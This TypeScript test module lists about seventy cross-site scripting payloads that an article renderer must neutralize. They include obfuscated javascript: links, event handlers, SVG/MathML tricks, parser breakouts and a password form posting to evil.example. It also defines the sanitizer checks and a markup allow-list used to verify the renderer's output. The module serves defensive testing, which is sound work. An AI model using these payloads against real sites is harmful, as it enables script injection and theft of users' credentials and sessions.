import assert from 'node:assert/strict';
import * as cheerio from 'cheerio';

/**
 * Article bodies written to attack the reader: each must come out inert
 * wherever an article's HTML is shown (the renderer itself, the public
 * page, the preview, the feed, the admin list). A source is Markdown, and
 * the same text is tried as imported HTML too: raw HTML is legal Markdown.
 */
export interface HostileBody {
  name: string;
  source: string;
}

export const HOSTILE_BODIES: readonly HostileBody[] = [
  // Script, however it is written
  { name: 'raw script element', source: '<script>alert(1)</script>' },
  { name: 'script with outside source, upper case', source: '<SCRIPT SRC=//evil.example/x.js></SCRIPT>' },
  { name: 'script across blank lines (one Markdown HTML block)', source: '<script>\n\nalert(1)\n\n</script>\n\nafter' },
  { name: 'inline script inside a paragraph', source: 'Hello <script>alert(1)</script> world' },
  { name: 'script inside a template', source: '<template><script>alert(1)</script></template>' },
  { name: 'CDATA holding a script', source: '<![CDATA[<script>alert(1)</script>]]>' },
  { name: 'null byte inside the tag name', source: '<scr\0ipt>alert(1)</scr\0ipt>' },

  // Links and images in Markdown
  { name: 'Markdown link to javascript:', source: '[click](javascript:alert(1))' },
  { name: 'Markdown link, scheme in mixed case', source: '[click](JaVaScRiPt:alert(1))' },
  { name: 'Markdown link, scheme as a numeric entity', source: '[click](&#106;avascript:alert(1))' },
  { name: 'Markdown link, colon as a named entity', source: '[click](javascript&colon;alert(1))' },
  { name: 'Markdown link, tab inside the scheme', source: '[click](<java\tscript:alert(1)>)' },
  { name: 'Markdown reference link to javascript:', source: '[click][x]\n\n[x]: javascript:alert(1)' },
  { name: 'Markdown link to vbscript:', source: '[click](vbscript:msgbox(1))' },
  { name: 'Markdown link to a data: page', source: '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { name: 'Markdown image from javascript:', source: '![x](javascript:alert(1))' },
  { name: 'Markdown image from a data: SVG', source: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)' },
  { name: 'autolink to javascript:', source: '<javascript:alert(1)>' },
  { name: 'autolink to a data: page', source: '<data:text/html,<script>alert(1)</script>>' },
  { name: 'Markdown image alt breaking out of its quotes', source: '![x" onerror="alert(1)](/media/a.png)' },
  { name: 'Markdown link title breaking out of its quotes', source: '[x](/a "t\\" onmouseover=\\"alert(1)")' },

  // Links and images in HTML
  { name: 'HTML link to javascript:', source: '<a href="javascript:alert(1)">x</a>' },
  { name: 'HTML link, tab entity inside the scheme', source: '<a href="java&#x09;script:alert(1)">x</a>' },
  { name: 'HTML link, named tab entity inside the scheme', source: '<a href="jav&Tab;ascript:alert(1)">x</a>' },
  { name: 'HTML link, a real newline inside the scheme', source: '<a href="java\nscript:alert(1)">x</a>' },
  { name: 'HTML link, leading newline entity and control character', source: '<a href="&NewLine;&#14; javascript:alert(1)">x</a>' },
  {
    name: 'HTML link, every character a decimal entity',
    source: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  },
  {
    name: 'HTML link, hex entities without semicolons',
    source: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  },
  { name: 'HTML link, zero-padded entity', source: '<a href="&#0000106avascript:alert(1)">x</a>' },
  { name: 'HTML link, null byte inside the scheme', source: '<a href="java\0script:alert(1)">x</a>' },
  { name: 'HTML link to a data: page', source: '<a href="data:text/html,<script>alert(1)</script>">x</a>' },
  { name: 'HTML link, javascript: hidden behind a comment', source: '<a href="javascript://%0aalert(1)">x</a>' },
  { name: 'HTML link opening a new window', source: '<a href="https://evil.example/" target="_blank">x</a>' },
  { name: 'image with onerror', source: '<img src=x onerror=alert(1)>' },
  { name: 'image from javascript:, mixed case', source: "<IMG SRC=JaVaScRiPt:alert('XSS')>" },
  { name: 'image with a javascript: srcset', source: '<img src="/media/a.png" srcset="javascript:alert(1) 1x" alt="a">' },
  {
    name: 'image attribute breakout with quotes',
    source: '<img src="/media/a.png" alt="x" onerror="alert(1)" title=\'"><script>alert(1)</script>\'>',
  },
  { name: 'image with backticks', source: '<img src="x` `<script>alert(1)</script>"` `>' },

  // Event handlers
  { name: 'handlers on an allowed element', source: '<p onclick="alert(1)" ONMOUSEOVER=alert(1)>x</p>' },
  { name: 'handler on details', source: '<details open ontoggle=alert(1)>x</details>' },
  { name: 'handler on a media source', source: '<video><source onerror=alert(1)></video>' },
  { name: 'handler on body', source: '<body onload=alert(1)>x</body>' },

  // Foreign content
  { name: 'SVG holding a script', source: '<svg><script>alert(1)</script></svg>' },
  { name: 'SVG with onload', source: '<svg onload=alert(1)>' },
  { name: 'SVG link to javascript:', source: '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>' },
  { name: 'MathML with a link', source: '<math href="javascript:alert(1)">x</math>' },
  { name: 'MathML namespace confusion', source: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },

  // Frames, plug-ins, forms and page-wide elements
  { name: 'iframe', source: '<iframe src="https://evil.example/"></iframe>' },
  { name: 'iframe with srcdoc', source: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>' },
  { name: 'object', source: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed of an SVG', source: '<embed src="data:image/svg+xml,<svg onload=alert(1)>">' },
  {
    name: 'form with a password field',
    source: '<form action="https://evil.example/"><input name=password><button formaction="javascript:alert(1)">Go</button></form>',
  },
  { name: 'isindex', source: '<isindex action=javascript:alert(1) type=image>' },
  { name: 'base', source: '<base href="https://evil.example/">' },
  { name: 'meta refresh', source: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'outside stylesheet', source: '<link rel=stylesheet href="https://evil.example/x.css">' },

  // CSS
  { name: 'style element', source: '<style>body{background:url(javascript:alert(1))}</style>' },
  { name: 'CSS expression in a style attribute', source: '<p style="width: expression(alert(1))">x</p>' },
  { name: 'javascript: url in a style attribute', source: '<a href="/x" style="background:url(\'javascript:alert(1)\')">x</a>' },

  // Parser confusion
  { name: 'broken nesting', source: '<p><a href="/x"><strong>x</p></a><script>alert(1)</strong>' },
  { name: 'unclosed image tag at the end', source: 'text <img src=x onerror=alert(1)//' },
  { name: 'unclosed link with javascript:', source: '<a href="javascript:alert(1)"' },
  { name: 'comment hiding a tag', source: '<!--<img src="--><img src=x onerror=alert(1)//">' },
  { name: 'noscript breakout', source: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
  { name: 'xmp breakout', source: '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>' },
  { name: 'noembed breakout', source: '<noembed><a title="</noembed><img src=x onerror=alert(1)>">x</a></noembed>' },
  { name: 'textarea breakout', source: '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>' },
  {
    name: 'ids and names that clobber the page',
    source: '<a id="comments" name="cookie" href="/x">x</a> <img name="getElementById" id="respond" src="/media/a.png" alt="a">',
  },
];

/** Elements that must never reach a reader from an article body. */
const FORBIDDEN_ELEMENTS = [
  'script',
  'style',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'form',
  'input',
  'button',
  'textarea',
  'select',
  'base',
  'meta',
  'link',
  'svg',
  'math',
  'template',
  'noscript',
  'xmp',
  'noembed',
  'noframes',
  'isindex',
  'video',
  'audio',
  'source',
  'details',
  'body',
  'html',
  'head',
  'title',
];

/** Without what browsers skip inside a URL (controls and spaces), so a scheme is read as they read it. */
const withoutIgnored = (value: string) => value.replace(/[\x00-\x20]+/g, '');
const schemeOf = (value: string) => /^([a-z][a-z0-9+.-]*):/i.exec(withoutIgnored(value))?.[1]?.toLowerCase();

/**
 * Everything that is not inert in a fragment of rendered article HTML, as
 * a browser would parse it (attribute values come back decoded): forbidden
 * elements, `on*` handlers, `style`, ids and names other than a heading's
 * own id, and any attribute holding a javascript:, data: or vbscript: URL.
 */
export function inertnessProblems(html: string): string[] {
  const page = cheerio.load(html, null, false);
  const problems: string[] = [];
  for (const name of FORBIDDEN_ELEMENTS) {
    if (page(name).length > 0) problems.push(`<${name}> element`);
  }
  page
    .root()
    .find('*')
    .each((_index, element) => {
      for (const [attribute, value] of Object.entries(element.attribs)) {
        const where = `${attribute} on <${element.tagName}>`;
        if (/^on/i.test(attribute)) problems.push(`event handler ${where}`);
        if (attribute.toLowerCase() === 'style') problems.push(`style attribute ${where}`);
        if (attribute === 'name' || (attribute === 'id' && !/^h[2-6]$/.test(element.tagName))) problems.push(`page-clobbering ${where}`);
        const scheme = schemeOf(value);
        if (scheme === 'javascript' || scheme === 'data' || scheme === 'vbscript') problems.push(`${scheme}: URL in ${where}`);
        if (attribute === 'srcset' && /(?:javascript|data|vbscript):/i.test(value.replace(/\s+/g, '')))
          problems.push(`dangerous srcset on <${element.tagName}>`);
      }
    });
  return problems;
}

/** Fails, naming what is live, unless `html` is inert. */
export function assertInert(html: string, label = 'article body'): void {
  assert.deepEqual(inertnessProblems(html), [], `${label} is not inert:\n${html}`);
}

/** The elements and attributes an article body may hold at all (src/articles/article-markdown.ts). */
const ARTICLE_MARKUP: Record<string, readonly string[]> = {
  h2: ['id'],
  h3: ['id'],
  h4: ['id'],
  h5: ['id'],
  h6: ['id'],
  p: [],
  em: [],
  strong: [],
  pre: [],
  blockquote: [],
  ul: [],
  li: [],
  hr: [],
  br: [],
  figure: [],
  figcaption: [],
  table: [],
  thead: [],
  tbody: [],
  tr: [],
  a: ['href', 'rel', 'title'],
  img: ['src', 'alt', 'title', 'width', 'height', 'loading', 'decoding'],
  code: ['class'],
  ol: ['start'],
  th: ['colspan', 'rowspan'],
  td: ['colspan', 'rowspan'],
};

/** Stricter than inertness: nothing beyond the articles' allow-list, links and images to allowed places only. */
export function assertOnlyArticleMarkup(html: string): void {
  const page = cheerio.load(html, null, false);
  page
    .root()
    .find('*')
    .each((_index, element) => {
      const allowed = ARTICLE_MARKUP[element.tagName];
      assert.ok(allowed, `<${element.tagName}> is not allowed: ${html}`);
      for (const attribute of Object.keys(element.attribs)) {
        assert.ok(allowed.includes(attribute), `${attribute} on <${element.tagName}> is not allowed: ${html}`);
      }
      const { href, src } = element.attribs;
      if (href !== undefined) {
        assert.ok([undefined, 'http', 'https', 'mailto'].includes(schemeOf(href)), `link to ${href}: ${html}`);
        assert.doesNotMatch(withoutIgnored(href), /^[/\\]{2}/, `link off the site by a protocol-relative address: ${html}`);
      }
      if (src !== undefined) assert.match(src, /^(?:https?:\/\/[^/\\]|\/(?:media|images)\/)/i, html);
      if (element.tagName === 'img') assert.ok(element.attribs.alt !== undefined, `an image without alt: ${html}`);
      if (element.tagName === 'code' && element.attribs.class !== undefined) assert.match(element.attribs.class, /^language-[\w-]+$/, html);
    });
}
